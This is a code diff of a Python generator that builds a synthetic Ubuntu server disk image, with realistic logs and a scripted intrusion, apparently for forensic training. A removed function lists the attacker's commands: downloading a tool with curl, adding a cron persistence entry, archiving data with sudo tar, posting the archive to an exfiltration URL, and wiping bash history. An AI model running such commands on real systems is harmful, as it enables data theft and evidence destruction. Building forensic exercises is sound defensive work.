@@ -1,10 +1,4 @@
-"""SRV01, the sample case's Ubuntu 22.04 server, as a raw ext4 image built without root.
-
-The server's files are staged in a temporary folder and packed by ``mke2fs -d``; a
-``debugfs`` script then gives every inode its real owner, mode and four timestamps, which
-``mke2fs`` cannot take from an unprivileged staging tree (owners) or at all (change and
-birth times). Fixed UUIDs, hash seed, clock (``E2FSPROGS_FAKE_TIME``), configuration file
-and locale make the image byte-identical for the same seed.
+"""SRV01, the sample case's Ubuntu 22.04 server: its files and what it logged, as a raw ext4 image.
 
 What the server logged: two days of routine work (cron, systemd timers, an admin's and a
 deploy account's SSH sessions, a kernel upgrade and reboot on Monday, a monitoring probe,
@@ -13,8 +7,10 @@ intranet web traffic) and, on Tuesday, the attack: bob's stolen password used fr
 with sudo (S14) and posted out (S15), and the shell history truncated (S16) -- which bash
 then refilled with the whole session when the attacker logged out.
 
-Logs use local time (Europe/Berlin, UTC+1 on these days) in the traditional syslog format
-of Ubuntu 22.04; every time kept in the code is UTC.
+Who used the server and when (SSH sessions, the monitor's probes, page views) comes from
+``office``, which the LAN capture renders too, so logs and packets agree; ``ext4`` packs the
+file tree into a byte-reproducible image. Logs use local time (Europe/Berlin, UTC+1 on these
+days) in the traditional syslog format of Ubuntu 22.04; every time kept in the code is UTC.
 """
 
 from __future__ import annotations
@@ -23,13 +19,8 @@ import base64
 import contextlib
 import hashlib
 import ipaddress
-import math
-import os
 import random
-import shutil
 import struct
-import subprocess
-import tempfile
 import uuid
 from dataclasses import dataclass, field
 from datetime import UTC, datetime, timedelta
@@ -37,7 +28,8 @@ from itertools import count
 from pathlib import Path
 from zoneinfo import ZoneInfo
 
-from forensics.samples import payloads, story
+from forensics.samples import ext4, office, payloads, story
+from forensics.samples.office import BOOT, REBOOT_CMD, Hit, Probe, Session
 from forensics.samples.story import Attack
 from forensics.samples.truth import ArtifactReport, Ref
 
@@ -50,21 +42,11 @@ MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", 
 DAYS = ("Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun")
 NOISE_RATIO = 50  # background entries per malicious entry, at least
 
-# Clock of the server's life.
+# Clock of the server's life (Monday's reboot is in ``office``: bob's sudo caused it).
 INSTALLED = datetime(2025, 6, 12, 9, 41, 7, tzinfo=UTC)  # Ubuntu installed, accounts created
 ACCOUNTS = datetime(2025, 9, 3, 13, 22, 48, tzinfo=UTC)  # deploy account and web app added
-REBOOT_CMD = story.START + timedelta(hours=6, minutes=26, seconds=50, milliseconds=412)  # bob's `sudo reboot`
-BOOT = story.START + timedelta(hours=6, minutes=27, seconds=25, milliseconds=380)
 ROTATED = story.START + timedelta(hours=23)  # logrotate.timer, Tuesday 00:00 local: nginx logs rotate
 OLD_KERNEL, KERNEL = "5.15.0-101-generic", "5.15.0-105-generic"
-LOGOUT_AFTER = timedelta(seconds=5)  # the attacker types ``exit`` this long after S16 (as on the wire)
-
-# The network around the server.
-BOB_LAPTOP = "10.20.0.35"
-CI_RUNNER = "10.20.0.40"
-MONITOR = "10.20.0.60"
-NAS = "10.20.0.50"
-INTRANET = "intranet.corp.example.com"
 
 UID = {"root": 0, "www-data": 33, "syslog": 107, "srvadmin": 1000, "bob": 1001, "deploy": 1002}
 GID = {"root": 0, "adm": 4, "shadow": 42, "utmp": 43, "www-data": 33, "crontab": 112, "syslog": 113}
@@ -208,7 +190,6 @@ class Server:
     """Everything SRV01 writes while it runs: syslog-format lines, login records, processes."""
 
     r: random.Random
-    scale: int
     pids: Pids
     logs: dict[str, list[Line]] = field(
         default_factory=lambda: {"auth.log": [], "syslog": [], "kern.log": []}
@@ -240,25 +221,13 @@ class Server:
 # --- SSH sessions -------------------------------------------------------------------------------
 
 
-@dataclass(eq=False)
-class Session:
-    """One SSH logon and what its user ran as root with sudo."""
+@dataclass(frozen=True, slots=True)
+class Login:
+    """An office session as logind saw it: its pseudo-terminal and session number."""
 
-    user: str
-    src: str
-    sport: int
-    start: datetime  # when sshd accepted the credentials
-    end: datetime | None  # logout; None when the reboot cut the session
-    method: str = "publickey"
-    failures: int = 0  # wrong passwords typed before the accepted one
-    sudo: list[tuple[datetime, str, str]] = field(default_factory=list)  # (time, cwd, command)
-    attack: bool = False
-    tty: int = -1
-    sid: int = 0
-
-    @property
-    def until(self) -> datetime:
-        return self.end or REBOOT_CMD
+    s: Session
+    tty: int
+    sid: int
 
 
 def _pubkey(name: str) -> tuple[str, str]:
@@ -269,89 +238,26 @@ def _pubkey(name: str) -> tuple[str, str]:
     return f"ssh-ed25519 {base64.b64encode(blob).decode()}", fingerprint
 
 
-BOB_SUDO = (
-    ("/home/bob", "/usr/bin/systemctl status nginx"),
-    ("/home/bob", "/usr/bin/journalctl -u webapp --since today"),
-    ("/home/bob", "/usr/bin/tail -n 200 /var/log/nginx/error.log"),
-    ("/home/bob", "/usr/bin/apt update"),
-    ("/home/bob", "/usr/sbin/ufw status verbose"),
-    ("/home/bob", "/usr/bin/du -sh /srv/data"),
-)
 SUDO_TAKES = {"apt update": 6.2, "apt upgrade": 93.5, "tar czf": 0.64, "restart webapp": 1.3}
 
 
-def _sessions(plan: Attack, r: random.Random, scale: int) -> list[Session]:
-    """Every SSH logon of the two days: fixed ones the story needs, random routine ones, the attack."""
-    mon, tue = story.START, story.ATTACK_DAY
-    s11 = next(c for c in plan.connections if c.step == "S11")
-    upgrade = at(mon, "06:21:12", 412)
-    sessions = [
-        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), upgrade, None, sudo=[
-            (upgrade + secs(31.7), "/home/bob", "/usr/bin/apt update"),
-            (upgrade + secs(58.2), "/home/bob", "/usr/bin/apt upgrade"),
-            (REBOOT_CMD, "/home/bob", "/usr/sbin/reboot"),
-        ]),
-        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), BOOT + secs(207.6), BOOT + secs(488.1),
-                sudo=[(BOOT + secs(251.3), "/home/bob", "/usr/bin/systemctl --failed")]),
-        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), at(mon, "13:04:51", 77), at(mon, "13:31:09", 640),
-                method="password", failures=1),
-        Session("bob", BOB_LAPTOP, r.randint(40000, 60999), at(tue, "07:48:20", 305), at(tue, "08:09:55", 112),
-                method="password", failures=2),
-        # deploy watches the app while the attacker is in: the attacker's session gets pts/1.
-        Session("deploy", CI_RUNNER, r.randint(40000, 60999), at(tue, "10:58:40", 231), at(tue, "11:31:12", 958),
-                sudo=[(at(tue, "11:29:48", 410), "/srv/webapp", "/usr/bin/systemctl restart webapp")]),
-        Session("bob", story.WS01.ip, s11.sport, s11.time, plan.step("S16").time + LOGOUT_AFTER + secs(0.175), method="password",
-                sudo=[(plan.step("S14").time, "/home/bob", f"/usr/bin/tar czf {story.ARCHIVE_PATH} {story.DATA_DIR}")],
-                attack=True),
-    ]  # fmt: skip
-    windows = [  # (user, sessions per scale, earliest and latest start UTC); none overlaps the attack
-        ("bob", 2, at(mon, "07:00:00"), at(mon, "16:30:00")),
-        ("bob", 1, at(tue, "07:00:00"), at(tue, "10:15:00")),
-        ("deploy", 2, at(mon, "08:00:00"), at(mon, "16:00:00")),
-        ("deploy", 1, at(tue, "08:15:00"), at(tue, "10:20:00")),
-        ("deploy", 1, at(tue, "12:00:00"), story.COLLECTED - timedelta(minutes=45)),
-    ]
-    for user, n, lo, hi in windows:  # one session per equal slot, so one user's sessions rarely overlap
-        slot = (hi - lo) / (n * scale)
-        for i in range(n * scale):
-            sessions.append(
-                _routine_session(r, user, lo + slot * i + secs(r.uniform(0, slot.total_seconds())))
-            )
-    return sorted(sessions, key=lambda s: s.start)
-
-
-def _routine_session(r: random.Random, user: str, start: datetime) -> Session:
-    """An admin's or a deployment's everyday logon, 4 to 35 minutes long."""
-    length = r.uniform(240, 2100) if user == "bob" else r.uniform(150, 600)
-    src = BOB_LAPTOP if user == "bob" else CI_RUNNER
-    s = Session(user, src, r.randint(40000, 60999), start, start + secs(length))
-    if user == "deploy":
-        s.sudo.append(
-            (start + secs(r.uniform(40, length - 60)), "/srv/webapp", "/usr/bin/systemctl restart webapp")
-        )
-    else:
-        for _ in range(r.choice((0, 1, 1, 2))):
-            cwd, cmd = r.choice(BOB_SUDO)
-            s.sudo.append((start + secs(r.uniform(20, length - 20)), cwd, cmd))
-    s.sudo.sort()
-    return s
-
-
-def _assign_ttys(sessions: list[Session]) -> None:
+def _assign_ttys(sessions: tuple[Session, ...]) -> list[Login]:
     """Give each session the lowest free pts and logind's next session number for its boot."""
     busy: dict[int, datetime] = {}
     sid = {False: 186, True: 0}
-    for s in sessions:
-        busy = {tty: until for tty, until in busy.items() if until > s.start}
-        s.tty = next(n for n in count() if n not in busy)
-        busy[s.tty] = s.until
-        sid[s.start >= BOOT] += 1
-        s.sid = sid[s.start >= BOOT]
+    logins = []
+    for s in sorted(sessions, key=lambda s: s.auth):
+        busy = {tty: until for tty, until in busy.items() if until > s.auth}
+        tty = next(n for n in count() if n not in busy)
+        busy[tty] = s.until
+        sid[s.auth >= BOOT] += 1
+        logins.append(Login(s, tty, sid[s.auth >= BOOT]))
+    return logins
 
 
-def _others_open(s: Session, sessions: list[Session], t: datetime) -> bool:
+def _others_open(s: Session, sessions: tuple[Session, ...], t: datetime) -> bool:
     """Whether another session of the same user is open at ``t`` (its user manager keeps running)."""
-    return any(o is not s and o.user == s.user and o.start <= t < o.until for o in sessions)
+    return any(o is not s and o.user == s.user and o.auth <= t < o.until for o in sessions)
 
 
 def _user_manager(srv: Server, s: Session, t: datetime, starting: bool) -> None:
@@ -374,13 +280,14 @@ def _user_manager(srv: Server, s: Session, t: datetime, starting: bool) -> None:
                 attack=a)  # fmt: skip
 
 
-def _logon(srv: Server, s: Session, sessions: list[Session], keys: dict[str, str]) -> tuple[Proc, Proc]:
+def _logon(srv: Server, lg: Login, sessions: tuple[Session, ...], keys: dict[str, str]) -> tuple[Proc, Proc]:
     """sshd's lines from the password attempts to the open session; returns sshd's connection
-    process (it logs the PAM session) and the user's session process (it logs the disconnect)."""
-    a, t0 = s.attack, s.start
-    pre = srv.pids.spawn(t0 - secs(1.41 + 2.7 * s.failures))
-    for i in range(s.failures):
-        tf = t0 - secs(2.7 * (s.failures - i))
+    process (forked at the SYN; it logs the PAM session) and the user's session process (it logs
+    the disconnect)."""
+    s = lg.s
+    a, t0 = s.attack, s.auth
+    pre = srv.pids.spawn(s.syn + secs(0.002))
+    for tf in s.failed:
         srv.log("auth.log", tf - secs(0.9), "sshd", "pam_unix(sshd:auth): authentication failure; logname= uid=0 "
                 f"euid=0 tty=ssh ruser= rhost={s.src}  user={s.user}", pre)  # fmt: skip
         srv.log("auth.log", tf, "sshd", f"Failed password for {s.user} from {s.src} port {s.sport} ssh2", pre)
@@ -389,7 +296,7 @@ def _logon(srv: Server, s: Session, sessions: list[Session], keys: dict[str, str
     if s.method == "password":
         how = f"password for {s.user} from {s.src} port {s.sport} ssh2"
     what = f"sshd accepted bob's password from {s.src} (WS01)"
-    srv.log("auth.log", t0, "sshd", f"Accepted {how}", pre, attack=a, ref="S11" if a else "", what=what)
+    srv.log("auth.log", t0, "sshd", f"Accepted {how}", pre, attack=a, ref=s.step, what=what if a else "")
     uid = UID[s.user]
     srv.log(
         "auth.log",
@@ -399,21 +306,22 @@ def _logon(srv: Server, s: Session, sessions: list[Session], keys: dict[str, str
         pre,
         attack=a,
     )
-    srv.log("auth.log", t0 + secs(0.048), "systemd-logind", f"New session {s.sid} of user {s.user}.",
+    srv.log("auth.log", t0 + secs(0.048), "systemd-logind", f"New session {lg.sid} of user {s.user}.",
             daemon("systemd-logind", t0), attack=a)  # fmt: skip
     if not _others_open(s, sessions, t0):
         _user_manager(srv, s, t0 + secs(0.052), starting=True)
-    srv.systemd(t0 + secs(0.231), f"Started Session {s.sid} of User {s.user}.", attack=a)
+    srv.systemd(t0 + secs(0.231), f"Started Session {lg.sid} of User {s.user}.", attack=a)
     child = srv.pids.spawn(t0 + secs(0.262))
     srv.wtmp.append(
-        Utmp(7, t0 + secs(0.405), child, f"pts/{s.tty}", f"ts/{s.tty}", s.user, s.src, attack=a,
-             ref="S11" if a else "", what=f"wtmp: bob logged on to pts/{s.tty} from {s.src}")
+        Utmp(7, t0 + secs(0.405), child, f"pts/{lg.tty}", f"ts/{lg.tty}", s.user, s.src, attack=a,
+             ref=s.step, what=f"wtmp: bob logged on to pts/{lg.tty} from {s.src}" if a else "")
     )  # fmt: skip
     return pre, child
 
 
-def _logoff(srv: Server, s: Session, sessions: list[Session], pre: Proc, child: Proc) -> None:
-    """sshd's, logind's and systemd's lines when the user logs out, and the wtmp logout record."""
+def _logoff(srv: Server, lg: Login, sessions: tuple[Session, ...], pre: Proc, child: Proc) -> None:
+    """sshd's, logind's and systemd's lines when the client disconnects, and the wtmp logout record."""
+    s = lg.s
     a, t = s.attack, s.until
     srv.log("auth.log", t, "sshd", f"Received disconnect from {s.src} port {s.sport}:11: disconnected by user",
             child, attack=a)  # fmt: skip
@@ -421,28 +329,29 @@ def _logoff(srv: Server, s: Session, sessions: list[Session], pre: Proc, child: 
             attack=a)  # fmt: skip
     srv.log("auth.log", t + secs(0.012), "sshd", f"pam_unix(sshd:session): session closed for user {s.user}",
             pre, attack=a)  # fmt: skip
-    srv.wtmp.append(Utmp(8, t + secs(0.016), child, f"pts/{s.tty}", f"ts/{s.tty}", attack=a))
+    srv.wtmp.append(Utmp(8, t + secs(0.016), child, f"pts/{lg.tty}", f"ts/{lg.tty}", attack=a))
     logind = daemon("systemd-logind", t)
     srv.log(
         "auth.log",
         t + secs(0.021),
         "systemd-logind",
-        f"Session {s.sid} logged out. Waiting for processes to exit.",
+        f"Session {lg.sid} logged out. Waiting for processes to exit.",
         logind,
         attack=a,
     )
-    srv.log("auth.log", t + secs(0.034), "systemd-logind", f"Removed session {s.sid}.", logind, attack=a)
-    srv.systemd(t + secs(0.03), f"session-{s.sid}.scope: Deactivated successfully.", attack=a)
+    srv.log("auth.log", t + secs(0.034), "systemd-logind", f"Removed session {lg.sid}.", logind, attack=a)
+    srv.systemd(t + secs(0.03), f"session-{lg.sid}.scope: Deactivated successfully.", attack=a)
     if not _others_open(s, sessions, t):
         _user_manager(srv, s, t + secs(10.11), starting=False)
 
 
-def _sudo(srv: Server, s: Session, t: datetime, cwd: str, cmd: str) -> None:
+def _sudo(srv: Server, lg: Login, t: datetime, cwd: str, cmd: str) -> None:
     """sudo's command line and its PAM session (the reboot never closes its session)."""
+    s = lg.s
     srv.pids.spawn(t)
     a = s.attack
     what = "sudo ran tar over /srv/data as root" if a else ""
-    srv.log("auth.log", t, "sudo", f"{s.user:>8} : TTY=pts/{s.tty} ; PWD={cwd} ; USER=root ; COMMAND={cmd}",
+    srv.log("auth.log", t, "sudo", f"{s.user:>8} : TTY=pts/{lg.tty} ; PWD={cwd} ; USER=root ; COMMAND={cmd}",
             attack=a, ref="S14" if a else "", what=what)  # fmt: skip
     srv.log(
         "auth.log",
@@ -459,14 +368,15 @@ def _sudo(srv: Server, s: Session, t: datetime, cwd: str, cmd: str) -> None:
     )
 
 
-def _session_events(srv: Server, sessions: list[Session], keys: dict[str, str]) -> None:
+def _session_events(srv: Server, logins: list[Login], keys: dict[str, str]) -> None:
     """Every session's logon, sudo commands and logoff (sessions cut by the reboot never log off)."""
-    for s in sessions:
-        pre, child = _logon(srv, s, sessions, keys)
-        for t, cwd, cmd in s.sudo:
-            _sudo(srv, s, t, cwd, cmd)
-        if s.end is not None:
-            _logoff(srv, s, sessions, pre, child)
+    sessions = tuple(lg.s for lg in logins)
+    for lg in logins:
+        pre, child = _logon(srv, lg, sessions, keys)
+        for t, cwd, cmd in lg.s.sudo:
+            _sudo(srv, lg, t, cwd, cmd)
+        if lg.s.end is not None:
+            _logoff(srv, lg, sessions, pre, child)
 
 
 # --- the web app, cron, timers, boot --------------------------------------------------------
@@ -507,11 +417,6 @@ class Webapp:
         self.srv.logs["syslog"].append(Line(t, "gunicorn", head + text, proc, pids=(proc, *named)))
 
 
-def _down(t: datetime) -> bool:
-    """Whether the server is off or booting at ``t`` (nothing runs from cron, nobody answers)."""
-    return REBOOT_CMD <= t < BOOT + secs(12)
-
-
 def _cron(srv: Server, plan: Attack) -> None:
     """cron's jobs: sysstat every ten minutes, run-parts hourly and daily, and bob's new job."""
     first_tool_run = _next_ten(plan.step("S13").time)
@@ -531,7 +436,7 @@ def _cron(srv: Server, plan: Attack) -> None:
             jobs.append(("root", "command -v debian-sa1 > /dev/null && debian-sa1 60 2", 0.3))
         if t >= first_tool_run and lt.minute % 10 == 0:
             jobs.append(("bob", f"{story.TOOL_PATH} >/dev/null 2>&1", 2.1))
-        if not _down(t):
+        if not office.down(t):
             for user, cmd, took in jobs:
                 _cron_job(srv, t + secs(1.0 + srv.r.uniform(0.0, 0.35)), user, cmd, took, t == first_tool_run)
         t += timedelta(minutes=1)
@@ -565,21 +470,17 @@ def _crontab_edit(srv: Server, plan: Attack) -> None:
             ref="S13", what="cron loaded bob's new crontab")  # fmt: skip
 
 
-def _probes(srv: Server) -> None:
-    """The monitoring host checks that sshd answers, every five minutes (more often at scale)."""
-    step = 300 / srv.scale
-    t = story.START + secs(srv.r.uniform(0, step))
-    while t < story.COLLECTED:
-        if not _down(t):
-            proc = srv.pids.spawn(t)
-            srv.log(
-                "auth.log",
-                t + secs(0.004),
-                "sshd",
-                f"Connection closed by {MONITOR} port {srv.r.randint(32768, 60999)} [preauth]",
-                proc,
-            )
-        t += secs(step + srv.r.uniform(-0.4, 0.4))
+def _probes(srv: Server, probes: tuple[Probe, ...]) -> None:
+    """The monitor's check_ssh: sshd forks at the SYN and logs the close before authentication."""
+    for p in probes:
+        proc = srv.pids.spawn(p.syn)
+        srv.log(
+            "auth.log",
+            p.closed,
+            "sshd",
+            f"Connection closed by {office.MONITOR} port {p.sport} [preauth]",
+            proc,
+        )
 
 
 def _timers(srv: Server) -> None:
@@ -598,7 +499,7 @@ def _timers(srv: Server) -> None:
         ):
             for h in hours:
                 t = day + timedelta(hours=h, seconds=r.uniform(0, 3500))
-                if not _down(t) and t < story.COLLECTED:
+                if not office.down(t) and t < story.COLLECTED:
                     srv.unit_run(t, unit, desc, r.uniform(0.2, 3))
     clean = "Cleanup of Temporary Directories"
     srv.unit_run(
@@ -708,123 +609,6 @@ def _reboot(srv: Server, app: Webapp, sid: int, fs_uuid: str) -> None:
 
 # --- nginx --------------------------------------------------------------------------------------
 
-BROWSERS = {
-    story.WS01.ip: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
-    "Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0",
-    BOB_LAPTOP: "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:148.0) Gecko/20100101 Firefox/148.0",
-}
-WIN_UAS = (
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 "
-    "Safari/537.36 Edg/145.0.0.0",
-    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:148.0) Gecko/20100101 Firefox/148.0",
-)
-#: Share of the peak hour's traffic by local hour on a working day.
-HOURLY = {
-    7: 0.2,
-    8: 0.8,
-    9: 1.0,
-    10: 1.0,
-    11: 0.9,
-    12: 0.5,
-    13: 0.8,
-    14: 1.0,
-    15: 0.9,
-    16: 0.7,
-    17: 0.4,
-    18: 0.15,
-}
-PEAK_VIEWS = 110  # page views in a peak hour, at scale 1
-MONITOR_UA = "check_http/v2.3.3 (monitoring-plugins 2.3.3)"
-CI_UA = "curl/7.81.0"
-
-
-@dataclass(eq=False)
-class Hit:
-    """One request nginx answered, and the error.log message it caused, if any."""
-
-    time: datetime
-    client: str
-    request: str
-    status: int
-    size: int
-    referer: str
-    agent: str
-    error: str = ""
-
-
-def _page_view(r: random.Random, t: datetime, client: str, agent: str, fresh: bool) -> list[Hit]:
-    """A person opening one page of the intranet app: the page, its assets and its API calls."""
-    base = f"http://{INTRANET}"
-    kind = r.choices(("home", "invoices", "invoice", "customers", "report"), (3, 4, 3, 2, 1))[0]
-    inv = f"INV-2026-{r.randint(0, 299):04d}"
-    page, api = {
-        "home": ("/", "/api/notifications"),
-        "invoices": (
-            f"/invoices?page={r.randint(1, 6)}",
-            f"/api/invoices?page={r.randint(1, 6)}&per_page=50",
-        ),
-        "invoice": (f"/invoices/{inv}", f"/api/invoices/{inv}"),
-        "customers": ("/customers", "/api/customers?active=1"),
-        "report": ("/reports/monthly?month=2026-02", "/api/reports/monthly?month=2026-02"),
-    }[kind]
-    hits = [Hit(t, client, f"GET {page} HTTP/1.1", 200, r.randint(7_400, 12_900), f"{base}/", agent)]
-    for asset, size in (("/static/css/app.css", 48_211), ("/static/js/app.js", 181_904)):
-        status = 200 if fresh else 304
-        hits.append(
-            Hit(
-                t + secs(0.05),
-                client,
-                f"GET {asset} HTTP/1.1",
-                status,
-                size if fresh else 0,
-                base + page,
-                agent,
-            )
-        )
-    if fresh and client != BOB_LAPTOP and r.random() < 0.3:
-        error = 'open() "/srv/webapp/static/img/logo@2x.png" failed (2: No such file or directory)'
-        hits.append(Hit(t + secs(0.08), client, "GET /static/img/logo@2x.png HTTP/1.1", 404, 162, base + page, agent,
-                        error))  # fmt: skip
-    hits.append(
-        Hit(t + secs(0.21), client, f"GET {api} HTTP/1.1", 200, r.randint(900, 41_000), base + page, agent)
-    )
-    return hits
-
-
-def _nginx(srv: Server, restarts: list[datetime]) -> list[Hit]:
-    """The intranet's requests over both days: people at work, the monitor, deploy checks."""
-    r, hits = srv.r, []
-    clients = [story.WS01.ip, BOB_LAPTOP] + [f"10.20.0.{n}" for n in range(41, 60)]
-    agents = {c: BROWSERS.get(c, WIN_UAS[int(c.rsplit(".", 1)[1]) % 3]) for c in clients}
-    seen: set[tuple[str, int]] = set()
-    hour = story.START
-    while hour < story.COLLECTED:
-        views = round(PEAK_VIEWS * srv.scale * HOURLY.get(local(hour).hour, 0.0) * r.uniform(0.8, 1.2))
-        for _ in range(views):
-            t = hour + secs(r.uniform(0, 3600))
-            client = r.choices(clients, [3, 1, *([2] * 19)])[0]
-            if _down(t):
-                continue
-            fresh = (client, local(t).day) not in seen
-            seen.add((client, local(t).day))
-            if fresh:
-                hits.append(Hit(t - secs(8.4), client, "POST /login HTTP/1.1", 302, 189, f"http://{INTRANET}/login",
-                                agents[client]))  # fmt: skip
-            hits.extend(_page_view(r, t, client, agents[client], fresh))
-        hour += timedelta(hours=1)
-    t = story.START + secs(r.uniform(0, 300))
-    while t < story.COLLECTED:
-        if not _down(t):
-            hits.append(Hit(t, MONITOR, "GET /healthz HTTP/1.1", 200, 15, "-", MONITOR_UA))
-        t += secs(300 / srv.scale + r.uniform(-0.4, 0.4))
-    for t in restarts:
-        hits.append(Hit(t + secs(0.4), r.choice(clients[2:]), "GET /api/notifications HTTP/1.1", 502, 166,
-                        f"http://{INTRANET}/", WIN_UAS[0], "connect() failed (111: Connection refused) while "
-                        "connecting to upstream"))  # fmt: skip
-        hits.append(Hit(t + secs(4.2), CI_RUNNER, "GET /healthz HTTP/1.1", 200, 15, "-", CI_UA))
-    return sorted(hits, key=lambda h: h.time)
-
 
 @dataclass
 class TextLog:
@@ -858,7 +642,7 @@ def _render_nginx(hits: list[Hit]) -> dict[str, TextLog]:
             files["error.log" + suffix].add(
                 h.time,
                 f"{lt:%Y/%m/%d %H:%M:%S} [error] {worker}#{worker}: *{conn} {h.error}, client: {h.client}, "
-                f'server: {INTRANET}, request: "{h.request}"{upstream}, host: "{INTRANET}", referrer: "{h.referer}"',
+                f'server: {office.INTRANET}, request: "{h.request}"{upstream}, host: "{office.INTRANET}", referrer: "{h.referer}"',
             )
     return files
 
@@ -920,33 +704,12 @@ def _packages(start: datetime, end: datetime) -> tuple[list[str], list[str]]:
 # --- shell histories ----------------------------------------------------------------------------
 
 
-def _attack_commands(plan: Attack) -> list[tuple[datetime, str, str]]:
-    """The attacker's session, in order: (time, command, step it shows or "")."""
-    s = plan.step
-    t11, t12, t15, t16 = s("S11").time, s("S12").time, s("S15").time, s("S16").time
-    return [
-        (t11 + secs(19.4), "id", ""),
-        (t11 + secs(24.1), "uname -a", ""),
-        (t11 + secs(39.8), f"ls -la {story.DATA_DIR}", ""),
-        (t12, f"curl -s {story.TOOL_URL} -o {story.TOOL_PATH}", "S12"),
-        (t12 + secs(6.2), f"chmod +x {story.TOOL_PATH}", ""),
-        (s("S13").time, f'(crontab -l 2>/dev/null; echo "{story.CRON_LINE}") | crontab -', "S13"),
-        (s("S14").time, f"sudo tar czf {story.ARCHIVE_PATH} {story.DATA_DIR}", "S14"),
-        (t15, f"curl -s -X POST --data-binary @{story.ARCHIVE_PATH} {story.EXFIL_URL}", "S15"),
-        (t15 + secs(93.1), f"rm -f {story.ARCHIVE_PATH}", ""),
-        (t16, "cat /dev/null > ~/.bash_history", "S16"),
-        (t16 + LOGOUT_AFTER, "exit", ""),
-    ]
-
-
 DEPLOY_OLD = (
     "cd /srv/webapp", "git status", "git log --oneline -5", "python3 -m venv .venv", ".venv/bin/pip install -r requirements.txt",
     "sudo systemctl restart webapp", "systemctl status webapp --no-pager", "curl -s http://127.0.0.1:8000/healthz",
     "ls -la /srv/data/finance", "du -sh /srv/data", "git pull --ff-only", ".venv/bin/pip install -r requirements.txt",
     "sudo systemctl restart webapp", "exit",
 )  # fmt: skip
-DEPLOY_RUN = ("cd /srv/webapp", "git pull --ff-only", "sudo systemctl restart webapp", "systemctl status webapp --no-pager",
-              "curl -s http://127.0.0.1:8000/healthz", "exit")  # fmt: skip
 ROOT_HISTORY = (
     "apt update", "apt install -y nginx python3-venv sysstat", "adduser bob", "usermod -aG sudo,adm bob",
     "adduser --disabled-password --gecos 'Web app deploy' deploy", "mkdir -p /srv/data /srv/webapp",
@@ -959,52 +722,6 @@ ROOT_HISTORY = (
 # --- the file tree ------------------------------------------------------------------------------
 
 
-@dataclass(frozen=True, slots=True)
-class Node:
-    """One inode of the image: a file (``data``), a directory or a symlink (``link``)."""
-
-    path: str
-    data: bytes | None = None
-    link: str = ""
-    owner: str = "root"
-    group: str = "root"
-    mode: int = 0o644
-    mtime: datetime = INSTALLED
-    atime: datetime | None = None
-    ctime: datetime | None = None
-    crtime: datetime | None = None
-
-    @property
-    def kind(self) -> int:
-        return 0o120000 if self.link else 0o040000 if self.data is None else 0o100000
-
-
-class Tree:
-    """The server's files by path; parent folders appear as root-owned 0755 when not declared."""
-
-    def __init__(self) -> None:
-        self.nodes: dict[str, Node] = {}
-
-    def add(self, path: str, data: bytes | str | None = None, **kw: object) -> None:
-        raw = data.encode() if isinstance(data, str) else data
-        self.nodes[path] = Node(path, raw, **kw)  # type: ignore[arg-type]
-
-    def dir(self, path: str, **kw: object) -> None:
-        self.nodes[path] = Node(path, None, mode=kw.pop("mode", 0o755), **kw)  # type: ignore[arg-type]
-
-    def link(self, path: str, target: str, **kw: object) -> None:
-        self.nodes[path] = Node(path, None, link=target, mode=0o777, **kw)  # type: ignore[arg-type]
-
-    def all(self) -> list[Node]:
-        """Every node, parents included, sorted by path."""
-        for path in list(self.nodes):
-            parent = os.path.dirname(path)
-            while parent != "/" and parent not in self.nodes:
-                self.nodes[parent] = Node(parent, None, mode=0o755)
-                parent = os.path.dirname(parent)
-        return [self.nodes[p] for p in sorted(self.nodes)]
-
-
 def _tzif(posix: str, name: str, offset: int) -> bytes:
     """A version-2 TZif file with no transitions, only the POSIX rule (RFC 8536)."""
     counts = struct.pack(">6I", 0, 0, 0, 0, 1, len(name) + 1)
@@ -1013,12 +730,12 @@ def _tzif(posix: str, name: str, offset: int) -> bytes:
     return header + block + header + block + f"\n{posix}\n".encode()
 
 
-def _etc(tree: Tree, seed: int, fs_uuid: str, keys: dict[str, str]) -> None:
+def _etc(tree: ext4.Tree, seed: int, fs_uuid: str, keys: dict[str, str]) -> None:
     """/etc: identity, accounts, time zone, cron, sshd, systemd units, nginx, sudo."""
     r = story.rng(seed, "srv01-etc")
     tree.add("/etc/hostname", f"{HOSTNAME}\n")
     tree.add("/etc/hosts", f"127.0.0.1 localhost\n127.0.1.1 {story.SRV01.fqdn} {HOSTNAME}\n"
-             f"{story.SRV01.ip} {story.SRV01.fqdn} {HOSTNAME} {INTRANET}\n\n"
+             f"{story.SRV01.ip} {story.SRV01.fqdn} {HOSTNAME} {office.INTRANET}\n\n"
              "# The following lines are desirable for IPv6 capable hosts\n::1     ip6-localhost ip6-loopback\n"
              "fe00::0 ip6-localnet\nff00::0 ip6-mcastprefix\nff02::1 ip6-allnodes\nff02::2 ip6-allrouters\n")  # fmt: skip
     tree.add("/usr/lib/os-release", 'PRETTY_NAME="Ubuntu 22.04.4 LTS"\nNAME="Ubuntu"\nVERSION_ID="22.04"\n'
@@ -1107,7 +824,7 @@ deploy:x:1002:
 """
 
 
-def _accounts(tree: Tree, r: random.Random) -> None:
+def _accounts(tree: ext4.Tree, r: random.Random) -> None:
     """passwd, group and shadow (yescrypt-shaped fake hashes), sudoers."""
     alphabet = "./0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
     shadow = []
@@ -1194,7 +911,7 @@ Description=Nightly copy of /srv/data to the NAS
 
 [Service]
 Type=oneshot
-ExecStart=/usr/bin/rsync -a --delete /srv/data/ backup@{NAS}::srvdata/
+ExecStart=/usr/bin/rsync -a --delete /srv/data/ backup@{office.NAS}::srvdata/
 """
 BACKUP_TIMER = """[Unit]
 Description=Nightly copy of /srv/data to the NAS
